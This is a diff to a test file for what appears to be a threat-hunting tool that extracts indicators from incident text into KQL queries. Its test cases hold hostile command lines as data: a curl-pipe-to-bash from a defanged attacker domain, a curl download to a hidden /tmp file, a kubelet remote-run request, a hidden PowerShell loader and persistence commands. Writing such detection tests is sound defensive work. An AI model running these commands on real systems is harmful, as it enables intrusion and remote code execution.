@@ -208,6 +208,8 @@ describe('command lines', () => {
     ['schtasks /create /tn "AcmexUpdate" /sc minute', 'AcmexUpdate'],
     ['powershell -nop -w hidden -c Invoke-AcmexLoader -Stage 2', 'Invoke-AcmexLoader -Stage 2'],
     ['$ curl -fsSL hxxps://drop[.]acmex-evil[.]net/i | bash', 'https://drop.acmex-evil.net/i'],
+    ['curl -o /tmp/.acmex_h https://acmex-cdn[.]app/bin/arm64', '/tmp/.acmex_h https://acmex-cdn.app/bin/arm64'],
+    ['curl -sk https://TARGET:10250/run/acmex-pod/app', ':10250/run/acmex-pod/app'],
     ['- `rundll32 acmexstage,#44 launch_mode7`', 'acmexstage,#44 launch_mode7'],
   ])('%s', (text, fragment) => {
     const hunt = behaviour(`They ran:\n\n${text}\n\nThat was all.`);
@@ -423,4 +425,22 @@ describe('terms that would waste a search', () => {
     expect(hunt?.kql).toContain('"acmex-plain.top/a/b?c=d"');
     expect(hunt?.kql).not.toMatch(/computername|\$1/);
   });
+});
+
+it.each([
+  'A modified PAM module, pam_unix.so, keeps passwords.',
+  'It renames its process to /usr/sbin/auditd and waits.',
+  'The stealer copies /Users/jo/Library/Keychains/login.keychain-db.',
+  'It adds a line to /etc/sysconfig/init on the host.',
+  'It writes to C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\ there.',
+])('what every machine has is no trace: %s', (text) => {
+  expect(hunts(text)).toEqual([]);
+});
+
+it('a daemon of Linux in an odd folder is one', () => {
+  expect(
+    hunts('The miner lies at /tmp/.x/auditd.')
+      .map(({ kql }) => kql)
+      .join(),
+  ).toContain('/tmp/.x/auditd');
 });
